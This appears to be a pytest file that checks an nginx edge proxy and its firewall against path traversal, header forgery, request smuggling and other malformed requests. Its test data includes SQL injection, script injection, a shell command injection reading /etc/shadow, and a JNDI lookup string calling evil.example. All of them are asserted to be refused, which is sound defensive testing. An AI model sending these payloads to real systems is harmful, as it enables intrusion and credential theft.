"""The edge as it runs: real nginx, real rule set, a client with raw sockets, and a gateway that says what reached it."""

import json
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from components.edge.nginx.config import COOKIES
from components.edge.nginx.headers import HIDDEN, OVERRIDING, REMOVED
from tests.components.edge import nginx_here
from tests.components.edge.nginx_here import Edge
from tests.components.edge.systems import system
from tests.systems import SYSTEMS, topology
from topology.derive import names

pytestmark = [pytest.mark.skipif(bool(nginx_here.missing()), reason=nginx_here.missing()), pytest.mark.xdist_group("nginx")]

API = "api.test.example"
STREAM = "stream.test.example"
BEARER = "Bearer eyJhbGciOiJub25lIn0.e30.c2lnbmVk"


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    more = {
        "services": {"app": {"data": "public"}, "stream": {"protocol": "websocket"}},
        "hosts": [API, STREAM],
    }
    doors = {
        "files": {"paths": ["/files/*"], "methods": ["GET", "POST", "PUT"], "auth": {"jwt": "login"}, "maxBody": "2Ki"},
        "items": {"paths": ["/items/{*}/parts"], "auth": {"apiKey": ["gold"]}},
        "page": {"paths": ["/page"]},
        "news": {"paths": ["/news"], "cache": {"ttl": "1m", "vary": ["accept-language"]}},
        "head": {"paths": ["/exists"], "methods": ["HEAD"]},
        "stream": {"paths": ["/stream"], "host": STREAM, "service": "stream"},
    }
    with nginx_here.running(system(doors, **more), tmp_path_factory.mktemp("edge")) as running:
        yield running


@pytest.mark.parametrize("name", SYSTEMS)
def test_nginx_takes_the_files_of_every_system(name: str, tmp_path: Path) -> None:
    assert nginx_here.check(topology(name), tmp_path) == ""


@pytest.mark.parametrize("path", ["/files/", "/files/a", "/files/a/b.txt", "/items/7/parts", "/page"])
def test_the_paths_of_doors_reach_the_gateway_as_they_came(edge: Edge, path: str) -> None:
    assert edge.ask(f"{path}?x=1", host=API).arrived["path"] == f"{path}?x=1"


@pytest.mark.parametrize(
    "path", ["/", "/files", "/items/7", "/items/7/parts/", "/pages", "/page/", "/PAGE", "/page;a=b", "/stream", "/healthz"]
)
def test_a_path_of_no_door_is_not_found(edge: Edge, path: str) -> None:
    assert edge.ask(path, host=API).status == 404


@pytest.mark.parametrize(
    "path",
    [
        "//page", "/files//page", "/files/../page", "/files/..", "/files/./a", "/files/%2e%2e/page", "/files/%2E./page", "/files/..%2fpage",
        "/files/%5c..%5cpage", "/%2Ffiles%5c..%5Cpage", "/files/..;/page", "/files/%252e%252e/page", "/files/%c0%ae%c0%ae/page",
        "/files/%c0%afpage", "/page%00", "/page%0d%0aX:%20y", "/page#x", "/files/x#/../page", "/files/\\..\\page", "/files/\xe9",
    ],
)  # fmt: skip
def test_a_path_that_layers_could_read_differently_is_refused(edge: Edge, path: str) -> None:
    before = len(edge.gateway.seen)
    assert edge.ask(path, host=API).status == 400
    assert len(edge.gateway.seen) == before


@pytest.mark.parametrize(("method", "status"), [("GET", 200), ("POST", 405), ("DELETE", 405), ("OPTIONS", 405), ("HEAD", 405)])
def test_only_the_methods_of_a_door_pass(edge: Edge, method: str, status: int) -> None:
    answer = edge.ask("/page", method=method, host=API)
    assert answer.status == status
    assert answer.header("Allow") == (None if status == 200 else "GET")


def test_trace_is_refused_by_nginx_itself(edge: Edge) -> None:
    assert edge.ask("/page", method="TRACE", host=API).status == 405


def test_head_is_no_kind_of_get(edge: Edge) -> None:
    assert edge.ask("/exists", method="HEAD", host=API).status == 200
    assert edge.ask("/exists", method="GET", host=API).status == 405


def test_no_header_that_belongs_inside_passes(edge: Edge) -> None:
    sent = [(header, "forged") for header in REMOVED if header not in OVERRIDING]
    forwarded = edge.ask("/page", *sent, host=API).forwarded
    assert forwarded.keys() & set(REMOVED) == set()
    assert "forged" not in forwarded.values()


@pytest.mark.parametrize("header", OVERRIDING)
def test_a_method_override_is_refused(edge: Edge, header: str) -> None:
    assert edge.ask("/page", (header, "DELETE"), host=API).status == 403


def test_the_edge_says_who_the_client_is_whatever_the_client_says(edge: Edge) -> None:
    sent = [("X-Forwarded-For", "10.0.0.1"), ("X-Forwarded-Proto", "http"), ("X-Forwarded-Host", "billing.svc"), ("X-Request-Id", "mine")]
    forwarded = edge.ask("/page", *sent, host=API).forwarded
    assert forwarded["x-forwarded-for"] == "127.0.0.1"
    assert forwarded["x-forwarded-proto"] == "https"
    assert forwarded["x-forwarded-host"] == API
    assert forwarded["host"] == API


def test_each_request_has_an_id_of_the_edges_own_in_the_form_of_a_uuid(edge: Edge) -> None:
    answer = edge.ask("/page", (names.REQUEST_ID_HEADER, "mine"), host=API)
    told = [value for name, value in answer.headers if name.lower() == names.REQUEST_ID_HEADER]
    assert told == [answer.forwarded[names.REQUEST_ID_HEADER]]
    assert [len(part) for part in told[0].split("-")] == [8, 4, 4, 4, 12]
    assert told[0][14] == "4"


@pytest.mark.parametrize(
    ("path", "kept"),
    [("/files/a", {"authorization"}), ("/items/7/parts", {"x-api-key"}), ("/page", set[str]())],
)
def test_a_door_sees_the_credential_it_asks_for_and_no_other(edge: Edge, path: str, kept: set[str]) -> None:
    forwarded = edge.ask(path, ("Authorization", BEARER), ("X-Api-Key", "k"), host=API).forwarded
    assert forwarded.keys() & {"authorization", "x-api-key"} == kept


@pytest.mark.parametrize(
    ("sent", "told"),
    [
        (BEARER, BEARER),
        (BEARER.replace("Bearer ", "bearer   "), BEARER),
        (f"x {BEARER}", None),
        (f"{BEARER}, {BEARER}", None),
        (BEARER.replace("Bearer", "Basic"), None),
        ("Bearer opaque", None),
    ],
)
def test_a_token_is_told_in_one_spelling_or_not_at_all(edge: Edge, sent: str, told: str | None) -> None:
    assert edge.ask("/files/a", ("Authorization", sent), host=API).forwarded.get("authorization") == told


def test_a_client_cannot_have_our_headers_dropped_by_naming_them_in_connection(edge: Edge) -> None:
    forwarded = edge.ask("/files/a", ("Connection", "authorization, x-request-id"), ("Authorization", BEARER), host=API).forwarded
    assert forwarded["authorization"] == BEARER
    assert "connection" not in forwarded


@pytest.mark.parametrize("header", ["X_User_Id", "x_perimeter_subject"])
def test_a_header_name_with_an_underscore_is_refused(edge: Edge, header: str) -> None:
    assert edge.ask("/page", (header, "admin"), host=API).status == 400


def test_more_headers_than_any_layer_looks_at_are_refused(edge: Edge) -> None:
    assert edge.ask("/page", *((f"X-Padding-{number}", "1") for number in range(100)), host=API).status == 400


def test_as_many_cookies_as_a_browser_keeps_pass_and_more_are_refused(edge: Edge) -> None:
    kept = "; ".join(["a=1"] * COOKIES)
    assert edge.ask("/page", ("Cookie", kept), host=API).status == 200
    assert edge.ask("/page", ("Cookie", f"{kept}; a=1"), host=API).status == 400


@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key"])
def test_two_credentials_of_one_kind_are_refused(edge: Edge, header: str) -> None:
    assert edge.ask("/files/a", (header, "one"), (header, "two"), host=API).status == 400


@pytest.mark.parametrize("host", [API, f"{API}:443", f"{API}.", API.upper()])
def test_a_host_is_the_same_host_however_it_is_spelled(edge: Edge, host: str) -> None:
    assert edge.ask("/page", host=host, sni=API).forwarded["host"] == API


@pytest.mark.parametrize("host", ["billing.billing.svc.cluster.local", "127.0.0.1", STREAM])
def test_a_host_that_is_not_the_one_of_the_handshake_is_misdirected(edge: Edge, host: str) -> None:
    assert edge.ask("/page", host=host, sni=API).status == 421


@pytest.mark.parametrize("sni", ["unknown.example", None])
def test_a_handshake_for_no_host_of_ours_fails(edge: Edge, sni: str | None) -> None:
    with pytest.raises(ssl.SSLError):
        edge.send(f"GET /page HTTP/1.1\r\nHost: {API}\r\nConnection: close\r\n\r\n".encode(), sni=sni)


def test_tls_before_1_2_is_refused(edge: Edge) -> None:
    with pytest.warns(DeprecationWarning, match="TLSv1_1"), pytest.raises(ssl.SSLError):
        edge.send(b"", sni=API, version=ssl.TLSVersion.TLSv1_1)


def test_the_gateway_knows_the_edge_by_its_certificate(edge: Edge) -> None:
    assert edge.ask("/page", host=API).arrived["client"] == [f"{names.SPIFFE}{names.EDGE_IDENTITY}"]


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/page?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", b""),
        ("/page?q=%3Cscript%3Ealert(1)%3C/script%3E", b""),
        ("/page?f=/etc/passwd", b""),
        ("/page?c=;cat%20/etc/shadow", b""),
        ("/page?x=$%7Bjndi:ldap://evil.example/a%7D", b""),
        ("/files/a", b"id=1' UNION SELECT password FROM users--"),
    ],
)
def test_the_firewall_stops_attacks_in_query_and_body(edge: Edge, path: str, body: bytes) -> None:
    before = len(edge.gateway.seen)
    form = [("Content-Type", "application/x-www-form-urlencoded")] if body else []
    assert edge.ask(path, *form, method="POST" if body else "GET", host=API, body=body).status == 403
    assert len(edge.gateway.seen) == before


def test_the_firewall_stops_an_attack_inside_json(edge: Edge) -> None:
    body = json.dumps({"note": {"text": "<script>alert(document.cookie)</script>"}}).encode()
    assert edge.ask("/files/a", ("Content-Type", "application/json"), method="POST", host=API, body=body).status == 403


def test_a_body_that_cannot_be_read_is_refused(edge: Edge) -> None:
    assert edge.ask("/files/a", ("Content-Type", "application/json"), method="POST", host=API, body=b'{"a":').status == 400


def test_an_ordinary_body_passes_whole(edge: Edge) -> None:
    body = json.dumps({"name": "Zoë O'Neil", "lines": ["one", "two"]}).encode()
    assert edge.ask("/files/a", ("Content-Type", "application/json"), method="PUT", host=API, body=body).arrived["length"] == len(body)


@pytest.mark.parametrize(("size", "status"), [(2048, 200), (2049, 413)])
def test_a_body_is_bounded_by_its_door(edge: Edge, size: int, status: int) -> None:
    body = b"a" * size
    answer = edge.ask("/files/a", ("Content-Type", "application/x-www-form-urlencoded"), method="POST", host=API, body=body)
    assert answer.status == status


def test_a_websocket_door_upgrades(edge: Edge) -> None:
    handshake = [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGVzdA==")]
    assert edge.ask("/stream", *handshake, host=STREAM).status == 101


@pytest.mark.parametrize(
    ("host", "path", "upgrade", "version"),
    [(API, "/page", "websocket", "13"), (STREAM, "/stream", "h2c", "13"), (STREAM, "/stream", "websocket", "777")],
)
def test_nothing_else_upgrades(edge: Edge, host: str, path: str, upgrade: str, version: str) -> None:
    sent = [("Connection", "Upgrade"), ("Upgrade", upgrade), ("Sec-WebSocket-Version", version)]
    assert edge.ask(path, *sent, host=host).forwarded.keys() & {"upgrade", "connection"} == set()


def test_answers_of_a_public_door_with_a_cache_are_kept(edge: Edge) -> None:
    first = edge.ask("/news?a=1", host=API)
    second = edge.ask("/news?a=1", host=API)
    assert (first.header("X-Cache-Status"), second.header("X-Cache-Status")) == ("MISS", "HIT")
    assert first.body == second.body
    assert first.header(names.REQUEST_ID_HEADER) != second.header(names.REQUEST_ID_HEADER)


def test_kept_answers_differ_by_query_and_by_the_headers_they_vary_with(edge: Edge) -> None:
    edge.ask("/news?b=1", ("Accept-Language", "de"), host=API)
    assert edge.ask("/news?b=2", ("Accept-Language", "de"), host=API).header("X-Cache-Status") == "MISS"
    assert edge.ask("/news?b=1", ("Accept-Language", "fr"), host=API).header("X-Cache-Status") == "MISS"
    assert edge.ask("/news?b=1", ("Accept-Language", "de"), host=API).header("X-Cache-Status") == "HIT"


@pytest.mark.parametrize("personal", [("Cookie", "session=1"), ("Authorization", BEARER)])
def test_a_request_that_shows_anything_personal_bypasses_the_cache(edge: Edge, personal: tuple[str, str]) -> None:
    for _ in range(2):
        assert edge.ask(f"/news?{personal[0]}", personal, host=API).header("X-Cache-Status") == "BYPASS"
    assert edge.ask(f"/news?{personal[0]}", host=API).header("X-Cache-Status") == "MISS"


def test_answers_of_other_doors_are_not_kept(edge: Edge) -> None:
    assert edge.ask("/page", host=API).header("X-Cache-Status") is None


def test_headers_of_the_inside_stay_inside(edge: Edge) -> None:
    answer = edge.ask("/page", host=API)
    assert {name.lower() for name, _ in answer.headers} & (set(HIDDEN) - {names.REQUEST_ID_HEADER}) == set()
    assert answer.header("Strict-Transport-Security") is not None


@pytest.mark.parametrize(
    "lines",
    [
        ["POST /files/a HTTP/1.1", "Content-Length: 5", "Transfer-Encoding: chunked"],
        ["POST /files/a HTTP/1.1", "Transfer-Encoding: xchunked"],
        ["POST /files/a HTTP/1.1", "Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        ["POST /files/a HTTP/1.1", "Content-Length: 5", "Content-Length: 6"],
        ["POST /files/a HTTP/1.1", "Content-Length: +5"],
        ["POST /files/a HTTP/1.1", "Content-Length: -5"],
        ["GET /page HTTP/1.1", f"Host: {STREAM}"],
        ["GET /page HTTP/1.1", "X-Folded: a", " b"],
    ],
)
def test_a_request_with_two_meanings_never_reaches_the_gateway_as_two(edge: Edge, lines: list[str]) -> None:
    before = len(edge.gateway.seen)
    first, *rest = lines
    request = "\r\n".join(
        [first, f"Host: {API}", *rest, "User-Agent: test", "Accept: */*", "", "0", "", "GET /page HTTP/1.1", f"Host: {API}", "", ""]
    )
    assert edge.send(request.encode(), sni=API).status in {400, 403, 501}
    assert len(edge.gateway.seen) == before


def test_logs_hold_neither_query_nor_credential_and_are_json(edge: Edge) -> None:
    edge.ask("/files/logged?password=hunter2", ("Authorization", "Bearer secret-token.secret.token"), host=API)
    edge.ask(
        "/files/logged?q=%3Cscript%3E", ("Authorization", "Bearer secret-token.secret.token"), ("Cookie", "session=secret-cookie"), host=API
    )
    text = edge.log.read_bytes().decode("utf-8", "replace")
    lines = [json.loads(line) for line in text.splitlines()]
    passed = next(line for line in lines if line.get("path") == "/files/logged" and line["status"] == "200")
    assert (passed["door"], passed["method"], passed["host"]) == ("files", "GET", API)
    assert any("transaction" in line for line in lines), "the refused request is in the audit log"
    for secret in ("hunter2", "secret-token", "secret-cookie"):
        assert secret not in text


def test_a_flood_from_one_address_is_stopped(tmp_path: Path) -> None:
    slow = {"gold": {"limits": [{"requests": 1, "per": "second"}]}}
    with nginx_here.running(system({"page": {"paths": ["/page"]}}, tiers=slow), tmp_path) as edge:
        request = f"GET /page HTTP/1.1\r\nHost: {API}\r\nUser-Agent: test\r\nAccept: */*\r\n\r\n".encode()
        statuses = edge.pipeline(request, 100, sni=API)
    assert statuses.count(200) + statuses.count(429) == 100
    assert statuses.count(429) > 0


def test_the_health_port_knows_nothing_else(edge: Edge) -> None:
    assert edge.health("/healthz", host=names.EDGE) == 200
    assert edge.health("/page", host=names.EDGE) == 404
